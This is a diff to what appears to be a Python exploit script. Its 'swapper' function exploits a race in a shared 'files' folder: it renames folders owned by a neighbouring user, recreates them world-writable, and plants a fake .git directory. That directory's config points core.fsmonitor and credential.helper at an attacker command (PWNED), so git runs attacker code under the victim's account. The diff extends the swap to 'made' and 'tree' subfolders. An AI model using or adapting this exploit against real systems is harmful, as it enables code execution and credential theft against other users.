@@ -125,19 +125,23 @@ def hooker(swap):
 
 
 def swapper(swap):
-    """Swaps the folder in which git is going to work for one of its own, in which a repository waits."""
+    """Swaps the folder in which git is going to work for one of its own, and then what git makes there for a repository of its own."""
     for name in os.listdir("files"):
-        path = f"files/{name}"
-        if not name.startswith(".initflow") or os.stat(path).st_uid == NEIGHBOR:
+        path = pathlib.Path("files", name)
+        if not name.startswith(".initflow"):
             continue
-        os.rename(path, f"files/gone-{os.urandom(4).hex()}")
-        for inner in ("made/.git/hooks", "made/.git/objects/info", "made/.git/refs"):
-            os.makedirs(f"{path}/{inner}", 0o777)
-        with open(f"{path}/made/.git/HEAD", "w") as file:
-            file.write("ref: refs/heads/main\n")
-        with open(f"{path}/made/.git/config", "w") as file:
-            file.write(f"[core]\n\tfsmonitor = {PWNED}\n[credential]\n\thelper = !{PWNED}\n")
-        swap()
+        if path.stat().st_uid != NEIGHBOR:
+            path.rename(f"files/gone-{os.urandom(4).hex()}")
+            path.mkdir(mode=0o777)
+            swap()
+        for tree in (path / "made", path / "tree"):
+            if tree.exists() and tree.stat().st_uid != NEIGHBOR:
+                tree.rename(path / os.urandom(4).hex())
+                for inner in ("hooks", "objects/info", "refs"):
+                    (tree / ".git" / inner).mkdir(parents=True)
+                (tree / ".git/HEAD").write_text("ref: refs/heads/main\n")
+                (tree / ".git/config").write_text(f"[core]\n\tfsmonitor = {PWNED}\n[credential]\n\thelper = !{PWNED}\n")
+                swap()
 
 
 def foreign(bench):
